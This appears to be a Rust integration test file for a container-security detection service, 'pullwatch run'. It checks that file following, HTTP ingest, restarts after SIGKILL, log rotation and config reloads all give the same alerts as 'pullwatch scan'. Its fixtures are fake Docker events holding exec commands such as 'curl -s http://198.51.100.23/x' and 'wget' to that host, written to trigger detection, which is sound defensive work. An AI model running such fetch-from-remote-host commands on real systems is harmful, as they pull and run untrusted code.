@@ -1,0 +1,681 @@
+//! `pullwatch run` driven as users run it: the real binary following real files while
+//! they are written, taking pushes over real HTTP, killed with SIGKILL and restarted,
+//! reloaded with SIGHUP. Every test compares against what `pullwatch scan` gives for
+//! the same records, ids included.
+
+use serde_json::Value;
+use std::collections::BTreeSet;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpStream;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+const BIN: &str = env!("CARGO_BIN_EXE_pullwatch");
+
+fn examples() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples")
+}
+
+/// A running `pullwatch run`, its stderr collected line by line.
+struct Service {
+    child: Child,
+    stderr: Arc<Mutex<Vec<String>>>,
+}
+
+impl Service {
+    fn start(args: &[&str]) -> Service {
+        let mut child = Command::new(BIN)
+            .arg("run")
+            .args(args)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("pullwatch run starts");
+        let stderr = Arc::new(Mutex::new(Vec::new()));
+        let err = child.stderr.take().expect("stderr is piped");
+        let sink = stderr.clone();
+        std::thread::spawn(move || {
+            for line in BufReader::new(err).lines().map_while(Result::ok) {
+                sink.lock().unwrap().push(line);
+            }
+        });
+        Service { child, stderr }
+    }
+
+    fn stderr(&self) -> String {
+        self.stderr.lock().unwrap().join("\n")
+    }
+
+    /// The address `--listen 127.0.0.1:0` bound.
+    fn addr(&self) -> String {
+        let mut found = None;
+        assert!(
+            wait_until(Duration::from_secs(20), || {
+                found = self.stderr.lock().unwrap().iter().find_map(|l| {
+                    l.strip_prefix("pullwatch: listening on http://")
+                        .map(str::to_string)
+                });
+                found.is_some()
+            }),
+            "no listening line in: {}",
+            self.stderr()
+        );
+        found.unwrap()
+    }
+
+    fn signal(&self, sig: &str) {
+        let ok = Command::new("kill")
+            .args([sig, &self.child.id().to_string()])
+            .status()
+            .expect("kill runs")
+            .success();
+        assert!(ok, "kill {sig}");
+    }
+
+    /// SIGTERM, then the exit status.
+    fn stop(mut self) -> (i32, String) {
+        self.signal("-TERM");
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            if let Some(st) = self.child.try_wait().unwrap() {
+                // Let the reader thread take the last lines.
+                std::thread::sleep(Duration::from_millis(100));
+                return (st.code().unwrap_or(-1), self.stderr());
+            }
+            assert!(
+                Instant::now() < deadline,
+                "no exit after SIGTERM: {}",
+                self.stderr()
+            );
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    }
+
+    fn kill9(mut self) {
+        self.child.kill().unwrap();
+        self.child.wait().unwrap();
+    }
+}
+
+impl Drop for Service {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn wait_until(limit: Duration, mut f: impl FnMut() -> bool) -> bool {
+    let deadline = Instant::now() + limit;
+    while Instant::now() < deadline {
+        if f() {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(25));
+    }
+    f()
+}
+
+fn alerts_in(path: &Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .filter(|l| !l.trim().is_empty())
+        .map(|l| serde_json::from_str(l).expect("one JSON alert per line"))
+        .collect()
+}
+
+/// What identifies an alert for these comparisons: id, rule, severity and entity.
+fn keys(alerts: &[Value]) -> Vec<String> {
+    let mut v: Vec<String> = alerts
+        .iter()
+        .map(|a| {
+            format!(
+                "{} {} {} {}",
+                a["id"], a["rule"], a["severity"], a["entity"]
+            )
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+fn scan(paths: &[&Path]) -> Vec<Value> {
+    let out = Command::new(BIN)
+        .args(["scan", "--format", "json", "--quiet"])
+        .args(paths)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// The example files in an order whose records lie within the allowed lateness of each
+/// other as they are written: the container telemetry, then the cloud's.
+fn example_files() -> Vec<PathBuf> {
+    [
+        "docker/events.jsonl",
+        "k8s/audit.jsonl",
+        "k8s/kubelet-events.jsonl",
+        "node/falco.jsonl",
+        "node/tetragon.jsonl",
+        "cloud/cloudtrail.json",
+        "cloud/vpc-flow.log",
+    ]
+    .iter()
+    .map(|f| examples().join(f))
+    .collect()
+}
+
+fn append(path: &Path, bytes: &[u8]) {
+    let mut f = std::fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)
+        .unwrap();
+    f.write_all(bytes).unwrap();
+}
+
+/// Writes `src` into `dst` a few lines at a time, with pauses, as a sensor would.
+fn trickle(src: &Path, dst: &Path, lines_per_write: usize, pause: Duration) {
+    let text = std::fs::read(src).unwrap();
+    let mut lines = text.split_inclusive(|&b| b == b'\n').peekable();
+    while lines.peek().is_some() {
+        let chunk: Vec<u8> = lines
+            .by_ref()
+            .take(lines_per_write)
+            .flatten()
+            .copied()
+            .collect();
+        append(dst, &chunk);
+        std::thread::sleep(pause);
+    }
+}
+
+#[test]
+fn files_written_line_by_line_give_the_alerts_scan_gives() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("in");
+    std::fs::create_dir(&input).unwrap();
+    let corpus = dir.path().join("corpus.jsonl");
+    let gen = Command::new(BIN)
+        .args([
+            "gen",
+            "--seed",
+            "11",
+            "--records",
+            "6000",
+            "--chains",
+            "3",
+            "--out",
+        ])
+        .arg(&corpus)
+        .output()
+        .unwrap();
+    assert!(gen.status.success());
+    let out = dir.path().join("alerts.jsonl");
+    let pattern = input.join("*").display().to_string();
+    let svc = Service::start(&[
+        "--follow",
+        &pattern,
+        "--state-dir",
+        &dir.path().join("state").display().to_string(),
+        "--output",
+        &out.display().to_string(),
+        "--idle-timeout",
+        "1s",
+    ]);
+    // The corpus is dated earlier the same day than the examples: written first, as a
+    // sensor's records arrive in time.
+    let mut sources: Vec<PathBuf> = vec![corpus.clone()];
+    sources.extend(example_files());
+    for src in &sources {
+        let name = src.file_name().unwrap();
+        trickle(src, &input.join(name), 7, Duration::from_millis(3));
+    }
+    let mut paths: Vec<&Path> = sources.iter().map(PathBuf::as_path).collect();
+    paths.sort();
+    let want = scan(&paths);
+    assert_eq!(
+        want.len(),
+        4 + 3,
+        "the examples' 4 alerts and the corpus' 3 chains"
+    );
+    assert!(
+        wait_until(Duration::from_secs(60), || alerts_in(&out).len()
+            >= want.len()),
+        "{} of {} alerts: {}",
+        alerts_in(&out).len(),
+        want.len(),
+        svc.stderr()
+    );
+    let (code, stderr) = svc.stop();
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(keys(&alerts_in(&out)), keys(&want), "{stderr}");
+    assert!(stderr.contains("skipped: none"), "{stderr}");
+}
+
+/// One HTTP/1.1 request over a fresh connection: (status, body).
+fn http(addr: &str, method: &str, path: &str, body: &[u8], token: Option<&str>) -> (u16, String) {
+    let mut s = TcpStream::connect(addr).unwrap();
+    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
+    let head = format!(
+        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\n{auth}Content-Length: {}\r\nConnection: close\r\n\r\n",
+        body.len()
+    );
+    s.write_all(head.as_bytes()).unwrap();
+    let _ = s.write_all(body);
+    let mut resp = Vec::new();
+    let _ = s.read_to_end(&mut resp);
+    let text = String::from_utf8_lossy(&resp).into_owned();
+    let status = text
+        .split(' ')
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or_else(|| panic!("no status in {text:?}"));
+    let body = text
+        .split_once("\r\n\r\n")
+        .map_or("", |(_, b)| b)
+        .to_string();
+    (status, body)
+}
+
+#[test]
+fn records_pushed_over_http_give_the_alerts_scan_gives() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("alerts.jsonl");
+    let token = dir.path().join("token");
+    std::fs::write(&token, "s3cret\n").unwrap();
+    let svc = Service::start(&[
+        "--listen",
+        "127.0.0.1:0",
+        "--token-file",
+        &token.display().to_string(),
+        "--state-dir",
+        &dir.path().join("state").display().to_string(),
+        "--output",
+        &out.display().to_string(),
+        "--idle-timeout",
+        "1s",
+    ]);
+    let addr = svc.addr();
+    assert!(wait_until(Duration::from_secs(10), || http(
+        &addr, "GET", "/readyz", b"", None
+    )
+    .0 == 200));
+    let files = example_files();
+    for (i, f) in files.iter().enumerate() {
+        // The cloud's records come once the container records are read.
+        if f.extension().is_some_and(|e| e == "json") {
+            std::thread::sleep(Duration::from_millis(1500));
+        }
+        let stem = f.file_stem().unwrap().to_string_lossy().replace('.', "_");
+        let body = std::fs::read(f).unwrap();
+        let (status, answer) = http(
+            &addr,
+            "POST",
+            &format!("/v1/ingest?source={stem}"),
+            &body,
+            Some("s3cret"),
+        );
+        assert_eq!(status, 200, "{f:?} (#{i}): {answer}");
+        assert!(answer.contains("\"accepted\":"), "{answer}");
+    }
+    let want = scan(&files.iter().map(PathBuf::as_path).collect::<Vec<_>>());
+    assert_eq!(want.len(), 4);
+    assert!(
+        wait_until(Duration::from_secs(30), || alerts_in(&out).len()
+            >= want.len()),
+        "{}",
+        svc.stderr()
+    );
+    let (status, metrics) = http(&addr, "GET", "/metrics", b"", None);
+    assert_eq!(status, 200);
+    assert!(
+        metrics.contains("pullwatch_records_decoded_total{format=\"docker-events\"} 13"),
+        "{metrics}"
+    );
+    assert!(
+        metrics.contains("pullwatch_http_records_accepted_total"),
+        "{metrics}"
+    );
+    let (code, stderr) = svc.stop();
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(keys(&alerts_in(&out)), keys(&want));
+}
+
+#[test]
+fn http_ingest_is_bounded_and_guarded() {
+    let dir = tempfile::tempdir().unwrap();
+    let token = dir.path().join("token");
+    std::fs::write(&token, "s3cret").unwrap();
+    let svc = Service::start(&[
+        "--listen",
+        "127.0.0.1:0",
+        "--token-file",
+        &token.display().to_string(),
+        "--max-body",
+        "1K",
+        "--max-backlog",
+        "4K",
+        "--state-dir",
+        &dir.path().join("state").display().to_string(),
+    ]);
+    let addr = svc.addr();
+    assert_eq!(http(&addr, "GET", "/healthz", b"", None).0, 200);
+    let line = br#"{"Type":"container","Action":"start","Actor":{"ID":"abc","Attributes":{"image":"x"}},"timeNano":5}"#;
+    assert_eq!(http(&addr, "POST", "/v1/ingest", line, None).0, 401);
+    assert_eq!(
+        http(&addr, "POST", "/v1/ingest", line, Some("wrong")).0,
+        401
+    );
+    assert_eq!(
+        http(&addr, "POST", "/v1/ingest", line, Some("s3cret")).0,
+        200
+    );
+    assert_eq!(
+        http(&addr, "POST", "/v1/ingest", &[b' '; 2048], Some("s3cret")).0,
+        413
+    );
+    assert_eq!(
+        http(
+            &addr,
+            "POST",
+            "/v1/ingest?source=../etc",
+            line,
+            Some("s3cret")
+        )
+        .0,
+        400
+    );
+    let (_, metrics) = http(&addr, "GET", "/metrics", b"", None);
+    assert!(
+        metrics.contains("pullwatch_http_rejected_total{reason=\"unauthorized\"} 2"),
+        "{metrics}"
+    );
+    let (code, stderr) = svc.stop();
+    assert_eq!(code, 0, "{stderr}");
+}
+
+const CID: &str = "3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
+const T0: i64 = 1_795_165_200;
+
+fn docker_line(secs: i64, typ: &str, action: &str, id: &str, image: &str) -> String {
+    format!(
+        "{{\"Type\":\"{typ}\",\"Action\":\"{action}\",\"Actor\":{{\"ID\":\"{id}\",\"Attributes\":{{\"image\":\"{image}\",\"name\":\"c\"}}}},\"scope\":\"local\",\"time\":{},\"timeNano\":{}}}\n",
+        T0 + secs,
+        (T0 + secs) * 1_000_000_000
+    )
+}
+
+/// Records of `format` the service has decoded, from its metrics.
+fn decoded(addr: &str, format: &str) -> u64 {
+    let (_, metrics) = http(addr, "GET", "/metrics", b"", None);
+    let prefix = format!("pullwatch_records_decoded_total{{format=\"{format}\"}} ");
+    metrics
+        .lines()
+        .find_map(|l| l.strip_prefix(&prefix))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or(0)
+}
+
+#[test]
+fn a_chain_in_flight_across_kill_9_alerts_exactly_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("events.jsonl");
+    let state = dir.path().join("state");
+    let out = dir.path().join("alerts.jsonl");
+    let args = |_: ()| {
+        vec![
+            "--follow".to_string(),
+            log.display().to_string(),
+            "--state-dir".into(),
+            state.display().to_string(),
+            "--output".into(),
+            out.display().to_string(),
+            "--idle-timeout".into(),
+            "500ms".into(),
+            "--checkpoint-interval".into(),
+            "100ms".into(),
+            "--listen".into(),
+            "127.0.0.1:0".into(),
+        ]
+    };
+    let image = "docker.io/kitty0x/toolbox:latest";
+    append(
+        &log,
+        docker_line(0, "image", "pull", image, image).as_bytes(),
+    );
+    append(
+        &log,
+        docker_line(2, "container", "create", CID, image).as_bytes(),
+    );
+    append(
+        &log,
+        docker_line(3, "container", "start", CID, image).as_bytes(),
+    );
+    let a = args(());
+    let argv: Vec<&str> = a.iter().map(String::as_str).collect();
+    // Pull, create and start are read and checkpointed; then the service dies.
+    let svc = Service::start(&argv);
+    let addr = svc.addr();
+    assert!(
+        wait_until(Duration::from_secs(20), || decoded(&addr, "docker-events")
+            == 3),
+        "{}",
+        svc.stderr()
+    );
+    // Past the idle timeout and a checkpoint, so nothing but the kill is left to happen.
+    std::thread::sleep(Duration::from_millis(800));
+    assert!(state.join("checkpoint.json").exists());
+    svc.kill9();
+    assert!(alerts_in(&out).is_empty());
+    // The exec arrives while it is down.
+    append(
+        &log,
+        docker_line(
+            40,
+            "container",
+            "exec_start: curl -s http://198.51.100.23/x",
+            CID,
+            image,
+        )
+        .as_bytes(),
+    );
+    let svc = Service::start(&argv);
+    assert!(
+        wait_until(Duration::from_secs(20), || alerts_in(&out).len() == 1),
+        "{}",
+        svc.stderr()
+    );
+    // Killed again right after the alert: the restart must not send it again.
+    svc.kill9();
+    let first = alerts_in(&out);
+    assert_eq!(first.len(), 1);
+    assert_eq!(first[0]["rule"], "an0691.chain");
+    assert_eq!(first[0]["evidence"][0]["stage"], "pull");
+    let svc = Service::start(&argv);
+    // Long enough for the replay to raise it again (idle timeout, polls).
+    std::thread::sleep(Duration::from_millis(2500));
+    let (code, stderr) = svc.stop();
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(alerts_in(&out), first, "{stderr}");
+    // The alert scan gives for the same records, with the same id.
+    assert_eq!(keys(&first), keys(&scan(&[log.as_path()])));
+}
+
+#[test]
+fn a_chain_survives_rotation_by_rename_and_truncation() {
+    for how in ["rename", "copytruncate"] {
+        let dir = tempfile::tempdir().unwrap();
+        let log = dir.path().join("events.jsonl");
+        let out = dir.path().join("alerts.jsonl");
+        let image = "docker.io/kitty0x/toolbox:latest";
+        append(
+            &log,
+            docker_line(0, "image", "pull", image, image).as_bytes(),
+        );
+        append(
+            &log,
+            docker_line(2, "container", "create", CID, image).as_bytes(),
+        );
+        let svc = Service::start(&[
+            "--follow",
+            &log.display().to_string(),
+            "--output",
+            &out.display().to_string(),
+            "--idle-timeout",
+            "1s",
+        ]);
+        std::thread::sleep(Duration::from_millis(400));
+        match how {
+            "rename" => {
+                std::fs::rename(&log, dir.path().join("events.jsonl.1")).unwrap();
+                append(
+                    &log,
+                    docker_line(3, "container", "start", CID, image).as_bytes(),
+                );
+            }
+            _ => {
+                std::fs::copy(&log, dir.path().join("events.jsonl.1")).unwrap();
+                std::fs::OpenOptions::new()
+                    .write(true)
+                    .truncate(true)
+                    .open(&log)
+                    .unwrap();
+                std::thread::sleep(Duration::from_millis(300));
+                append(
+                    &log,
+                    docker_line(3, "container", "start", CID, image).as_bytes(),
+                );
+            }
+        }
+        append(
+            &log,
+            docker_line(
+                40,
+                "container",
+                "exec_start: wget http://198.51.100.23/x",
+                CID,
+                image,
+            )
+            .as_bytes(),
+        );
+        assert!(
+            wait_until(Duration::from_secs(20), || alerts_in(&out).len() == 1),
+            "{how}: {}",
+            svc.stderr()
+        );
+        let (code, stderr) = svc.stop();
+        assert_eq!(code, 0, "{how}: {stderr}");
+        let a = alerts_in(&out);
+        assert_eq!(a.len(), 1, "{how}");
+        let stages: BTreeSet<&str> = a[0]["evidence"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|e| e["stage"].as_str().unwrap())
+            .collect();
+        assert_eq!(
+            stages,
+            BTreeSet::from(["pull", "create", "start", "activity"]),
+            "{how}"
+        );
+    }
+}
+
+#[test]
+fn sighup_reloads_the_config_and_refuses_a_bad_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("events.jsonl");
+    let out = dir.path().join("alerts.jsonl");
+    let cfg = dir.path().join("pullwatch.yaml");
+    std::fs::write(&cfg, "time_window: 15m\n").unwrap();
+    append(&log, b"");
+    let svc = Service::start(&[
+        "--config",
+        &cfg.display().to_string(),
+        "--follow",
+        &log.display().to_string(),
+        "--output",
+        &out.display().to_string(),
+        "--state-dir",
+        &dir.path().join("state").display().to_string(),
+        "--idle-timeout",
+        "500ms",
+    ]);
+    std::thread::sleep(Duration::from_millis(500));
+    std::fs::write(&cfg, "time_window: [not a duration\n").unwrap();
+    svc.signal("-HUP");
+    assert!(
+        wait_until(Duration::from_secs(10), || svc
+            .stderr()
+            .contains("reload refused")),
+        "{}",
+        svc.stderr()
+    );
+    // A good config that trusts the kitty0x images: their chains no longer alert,
+    // others still do.
+    std::fs::write(
+        &cfg,
+        "image_registry_allow_list: [docker.io/library, docker.io/kitty0x]\n",
+    )
+    .unwrap();
+    svc.signal("-HUP");
+    assert!(
+        wait_until(Duration::from_secs(10), || svc
+            .stderr()
+            .contains("configuration reloaded")),
+        "{}",
+        svc.stderr()
+    );
+    let trusted = "docker.io/kitty0x/toolbox:latest";
+    let other = "docker.io/evil0x/miner:1";
+    let other_id = CID.replace("3f9c", "77aa");
+    for (id, image) in [(CID, trusted), (other_id.as_str(), other)] {
+        append(
+            &log,
+            docker_line(0, "image", "pull", image, image).as_bytes(),
+        );
+        append(
+            &log,
+            docker_line(2, "container", "create", id, image).as_bytes(),
+        );
+        append(
+            &log,
+            docker_line(3, "container", "start", id, image).as_bytes(),
+        );
+        append(
+            &log,
+            docker_line(30, "container", "exec_start: sh -c id", id, image).as_bytes(),
+        );
+    }
+    assert!(
+        wait_until(Duration::from_secs(20), || !alerts_in(&out).is_empty()),
+        "{}",
+        svc.stderr()
+    );
+    std::thread::sleep(Duration::from_millis(1200));
+    let (code, stderr) = svc.stop();
+    assert_eq!(code, 0, "{stderr}");
+    let a = alerts_in(&out);
+    assert_eq!(a.len(), 1, "{stderr}");
+    assert_eq!(a[0]["image"]["ref"], format!("{other}"));
+}
+
+#[test]
+fn run_without_a_source_is_a_usage_error() {
+    let out = Command::new(BIN).arg("run").output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing to read"));
+}
